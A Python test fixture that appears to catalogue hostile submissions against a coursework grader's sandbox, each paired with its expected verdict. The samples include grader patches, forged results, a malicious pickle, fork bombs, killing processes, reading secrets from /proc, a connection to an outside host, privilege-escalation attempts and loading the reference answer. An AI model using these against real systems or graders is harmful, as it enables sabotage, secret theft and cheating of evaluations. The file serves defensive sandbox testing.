"""Submissions of learners who attack the grader, for one exercise of lesson 03, each with what it deserves.

Each is the source of the exercise's cell. `RIGHT` is a right answer; where it stands in the cell and the attack leaves it
alone, it earns its points in spite of the attack.
"""

from dataclasses import dataclass

from coursework.exercises.exercise import find

ANSWERS = find("3.4").reference.__module__
RIGHT = """
def ssm_loss(score, x, v):
    value, product = jvp(score, (x,), (v,))
    return ((product * v).sum(1) + 0.5 * (value * v).sum(1) ** 2).mean()
"""
WRONG = """
def ssm_loss(score, x, v):
    return (score(x) * v).sum()
"""


@dataclass(frozen=True)
class Hostile:
    """An attack: its name, the cell, whether the exercise is earned, and a part of the message or flag otherwise."""

    name: str
    source: str
    earned: bool = False
    says: str = ""


def inside(attack: str) -> str:
    """A cell whose function attacks when it is called, and is wrong."""
    body = "\n".join(f"    {line}" for line in attack.strip().splitlines())
    return f"def ssm_loss(score, x, v):\n{body}\n    return (score(x) * v).sum()\n"


def before(attack: str, answer: str = RIGHT) -> str:
    """A cell that attacks when it is run, before its function is defined."""
    return attack.strip() + "\n" + answer


HOSTILES = (
    # -- objects and patches that claim to be right
    Hostile(
        "an object that equals everything",
        inside(
            """
class Anything:
    shape, dtype, device, ndim, requires_grad = torch.Size([]), torch.float64, torch.device("cpu"), 0, False
    __class__ = torch.Tensor
    def __getattr__(self, name): return lambda *a, **k: True
    def __eq__(self, other): return True
    def __bool__(self): return True
return Anything()
"""
        ),
    ),
    Hostile(
        "a tensor class whose comparisons are always true",
        inside(
            """
class Always(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function in (torch.isclose, torch.allclose, torch.equal): return torch.ones((), dtype=torch.bool)
        return super().__torch_function__(function, types, args, kwargs or {})
return torch.zeros((), dtype=torch.float64).as_subclass(Always)
"""
        ),
    ),
    Hostile(
        "torch.allclose, isclose and equal are patched",
        before("torch.allclose = torch.equal = lambda *a, **k: True\ntorch.isclose = lambda a, b, **k: a == a", WRONG),
    ),
    Hostile(
        "check and the judge are patched",
        before(
            "import coursework.exercises as e\nfrom coursework.exercises import judging\n"
            "e.check = lambda *a: None\njudging.judge = judging.difference = judging.compare = lambda *a, **k: ''",
            WRONG,
        ),
    ),
    Hostile(
        "an AST transformer that drops assertions",
        before(
            "import ast\nget_ipython().ast_transformers.append(type('T', (ast.NodeTransformer,), "
            "{'visit_Assert': lambda s, n: ast.Pass()})())",
            WRONG,
        ),
    ),
    Hostile("assert is switched off", before("import builtins\nbuiltins.AssertionError = int", WRONG)),
    Hostile(
        "the exercise's observe is replaced",
        inside(
            """
from coursework.exercises.exercise import find
exercise = find("3.4")
object.__setattr__(exercise, "rtol", 1e300)
object.__setattr__(exercise, "observe", lambda *a: {"result": torch.zeros(()), "passed": True})
"""
        ),
    ),
    Hostile(
        "what is packed is patched",
        before(
            "from coursework.grading.sandboxed import wire\n"
            'wire.pack = lambda *a, **k: b\'{"state": "passed", "outcome": "passed"}\'',
            WRONG,
        ),
        says="no answer came back",
    ),
    Hostile(
        "a forged answer is written to the pipe",
        inside(
            """
import json, os, struct
head = json.dumps({"state": "passed", "outcome": "passed", "cases": [{"result": {"kind": "number", "value": 0.0}}]})
os.write(3, struct.pack("<II", len(head), 0) + head.encode())
os._exit(0)
"""
        ),
        says="no answer came back",
    ),
    Hostile(
        "a forged answer of the right form",
        inside(
            """
import os
from coursework.grading.sandboxed import wire
g = "gradient with respect to the parameters"
from coursework.exercises.judging import leaves
case = {"result": torch.zeros((), dtype=torch.float64), g: torch.zeros(18, dtype=torch.float64)}
os.write(3, wire.pack("done", [case | leaves((score, x, v))] * 5, touched=[], error="", printed="", remarks=[]))
os._exit(0)
"""
        ),
    ),
    Hostile(
        "a forged answer with a pickle",
        inside("""
import os, pickle
class P:
    def __reduce__(self): return (os.system, ("touch pwned",))
os.write(3, pickle.dumps(P()))
os._exit(0)
"""),
        says="no answer came back",
    ),
    Hostile(
        "an endless answer",
        inside("""
import os
while True:
    os.write(3, b"x" * 1_000_000)
"""),
    ),
    Hostile(
        "tables of tensors that lie",
        inside("""
import json, os, struct
table = json.dumps({"0/result": {"dtype": "F64", "shape": [10 ** 15], "data_offsets": [0, 8 * 10 ** 15]}}).encode()
blob = struct.pack("<Q", len(table)) + table
head = json.dumps({"state": "error", "cases": [{"result": {"kind": "tensor"}, "gradient with respect to the parameters": {"kind": "none"}}]}).encode()
os.write(3, struct.pack("<II", len(head), len(blob)) + head + blob)
os._exit(0)
"""),
        says="no answer came back",
    ),
    Hostile(
        "JSON that nests a hundred thousand deep",
        inside("""
import os, struct
head = b"[" * 60_000
os.write(3, struct.pack("<II", len(head), 0) + head)
os._exit(0)
"""),
        says="no answer came back",
    ),
    # -- ends and floods
    Hostile("os._exit(0) when the cell is run", before("import os\nos._exit(0)"), earned=True),
    Hostile("os._exit(0) when the function is called", inside("import os\nos._exit(0)"), says="no answer came back"),
    Hostile("sys.exit(0)", inside("import sys\nsys.exit(0)"), says="SystemExit"),
    Hostile("sys.exit(0) beside the answer", before("import sys\nsys.exit(0)"), earned=True),
    Hostile("an endless loop", inside("while True: pass"), says="never ends"),
    Hostile(
        "an endless loop that catches everything",
        inside("""
while True:
    try:
        while True: pass
    except BaseException: pass
"""),
        says="stopped after",
    ),
    Hostile(
        "it answers one byte and sleeps forever",
        inside("""
import os, time
os.write(3, b"x")
time.sleep(1e6)
"""),
        says="stopped after",
    ),
    Hostile("it sleeps forever beside the answer", before("import time\ntime.sleep(1e6)"), earned=True),
    Hostile(
        "a fork bomb",
        inside("""
import os
while True:
    try: os.fork()
    except OSError: pass
"""),
    ),
    Hostile(
        "a bomb of threads",
        inside("""
import threading, time
for _ in range(100_000): threading.Thread(target=time.sleep, args=(1e6,)).start()
"""),
    ),
    Hostile("100 GB in one piece", inside("torch.zeros(100 * 2 ** 30 // 8, dtype=torch.float64)"), says="raises"),
    Hostile(
        "100 GB in small pieces",
        inside("""
kept = []
while True: kept.append(bytearray(10 ** 7))
"""),
    ),
    Hostile("a print of 1 GB", before("for _ in range(1000): print('x' * 10 ** 6)"), earned=True),
    Hostile(
        "1 GB to the terminal, past Python",
        before("import os\nfor _ in range(1000): os.write(1, b'x' * 10 ** 6)"),
        earned=True,
    ),
    Hostile(
        "1 GB on the disk",
        before("with open('large', 'wb') as f:\n    for _ in range(1000): f.write(b'x' * 10 ** 6)"),
        earned=True,
    ),
    Hostile(
        "1 GB in a file of memory",
        before("""
import os
try:
    memory = os.memfd_create("large")
    for _ in range(1000): os.write(memory, b"x" * 10 ** 6)
    raise SystemExit("it got 1 GB")
except OSError: pass
"""),
        earned=True,
    ),
    Hostile(
        "shared memory that counts towards nobody",
        before("""
import ctypes
if ctypes.CDLL(None).shmget(0, 10 ** 6, 0o1666) >= 0: raise SystemExit("it got a segment")
"""),
        earned=True,
    ),
    Hostile("a hundred thousand files", before("for i in range(100_000): open(str(i), 'w').close()"), earned=True),
    Hostile("endless recursion", inside("return ssm_loss(score, x, v)"), says="RecursionError"),
    Hostile("a crash in native code", inside("import ctypes\nctypes.string_at(0)"), says="no answer came back"),
    Hostile("source that nests too deep to compile", "x = " + "(" * 5000 + ")" * 5000 + WRONG, says="does not parse"),
    Hostile("source of a hundred thousand minus signs", "x = " + "-" * 100_000 + "1" + WRONG, says="does not parse"),
    # -- others' property
    Hostile(
        "it ends every process it can",
        before(
            "import os, signal\nfor p in range(2, 40_000):\n    try: os.kill(p, signal.SIGKILL)\n    except OSError: pass"
        ),
        earned=True,
    ),
    Hostile(
        "it ends its process group and its parent",
        inside("import os, signal\nos.kill(os.getppid(), 9) if os.getppid() else None\nos.killpg(0, 9)"),
    ),
    Hostile(
        "it leaves a process behind",
        before("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1e6)
    os._exit(0)
"""),
        earned=True,
    ),
    Hostile(
        "it writes wherever it can",
        before("""
import itertools, os
for folder, _, files in itertools.islice(os.walk("/"), 500):
    for name in [*files[:3], "pwned"]:
        try: open(os.path.join(folder, name), "ab").close()
        except OSError: continue
        if not folder.startswith(("/scratch", "/proc", "/dev")): raise SystemExit(f"it wrote to {folder}")
"""),
        earned=True,
    ),
    Hostile(
        "it writes to the gradebook and to others' folders",
        before("""
for path in ("CANARY/gradebook.db", "CANARY/marks.csv", "CANARY/other/03_sliced_score_matching.ipynb"):
    try: open(path, "w").write("pwned")
    except OSError: pass
"""),
        earned=True,
    ),
    Hostile(
        "it reads the grader's secret",
        before("""
import glob, os
found = "".join(open(p, errors="replace").read() for p in glob.glob("CANARY/**", recursive=True) if os.path.isfile(p))
found += repr(dict(os.environ))
for p in glob.glob("/proc/*/environ"):
    try: found += open(p, errors="replace").read()
    except OSError: pass
if "CANARY_SECRET" in found:
    raise SystemExit("the secret is out")
"""),
        earned=True,
    ),
    Hostile(
        "it calls home",
        before("""
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("192.0.2.1", 80))):
    try:
        with socket.create_connection(address, timeout=1) as line:
            line.sendall(b"pwned")
    except OSError: pass
"""),
        earned=True,
    ),
    Hostile(
        "it becomes root and mounts",
        before("""
import ctypes, os
libc = ctypes.CDLL(None)
gained = []
for flags in (0x10000000, 0x20000, 0x10000000 | 0x20000): gained.append(libc.unshare(flags) == 0)
gained.append(libc.mount(b"none", b"/scratch", b"tmpfs", 0, b"") == 0)
try: os.setuid(0); gained.append(os.getuid() != 0 or open("/etc/shadow"))
except OSError: pass
if any(gained): raise SystemExit(f"it gained privileges: {gained}")
"""),
        earned=True,
    ),
    Hostile(
        "it raises its limits",
        before("""
import resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        raise SystemExit("it raised a limit")
    except (OSError, ValueError): pass
"""),
        earned=True,
    ),
    # -- the reference
    Hostile("it imports the reference", f"from {ANSWERS} import ssm_loss\n", says="calls the reference"),
    Hostile(
        "it looks the reference up",
        before("from coursework.exercises.exercise import find", inside('return find("3.4").reference(score, x, v)')),
        says="calls the reference",
    ),
    Hostile(
        "it hides the call",
        inside(f"""
import importlib
module = importlib.import_module("{ANSWERS}")
try: return getattr(module, "ssm_" + "loss")(score, x, v)
except BaseException: return torch.zeros((), dtype=torch.float64)
"""),
        says="calls the reference",
    ),
    Hostile(
        "it takes check's fallback",
        inside(
            'from coursework.exercises import check\ndef stub(*a): raise NotAttempted\nreturn check("3.4", stub)(score, x, v)'
        ),
    ),
    Hostile(
        "it searches memory for the reference",
        inside("""
import gc
for thing in gc.get_objects():
    if getattr(thing, "__name__", "") == "ssm_loss" and thing is not ssm_loss: return thing(score, x, v)
"""),
    ),
    Hostile(
        "it says that the cell failed, without a word",
        inside("""
from coursework.grading.sandboxed.cells import CellError
raise CellError
"""),
    ),
    Hostile(
        "a verdict of its own: an error without a text",
        inside("""
import json, os, struct
data = json.dumps({"state": "error", "cases": [], "error": ""}).encode()
os.write(3, struct.pack("<I", len(data)) + data)
os._exit(0)
"""),
    ),
    Hostile(
        "a number that no float can hold",
        inside("""
return 10**400
"""),
    ),
    Hostile(
        "it loads the course from the disk",
        inside(f"""
import glob, importlib.util, sys
for path in (*sys.path, "COURSE"):
    for file in glob.glob(path + "/{ANSWERS.replace(".", "/")}.py"):
        spec = importlib.util.spec_from_file_location("stolen", file)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        try: return module.ssm_loss(score, x, v)
        except AttributeError: pass
"""),
    ),
)
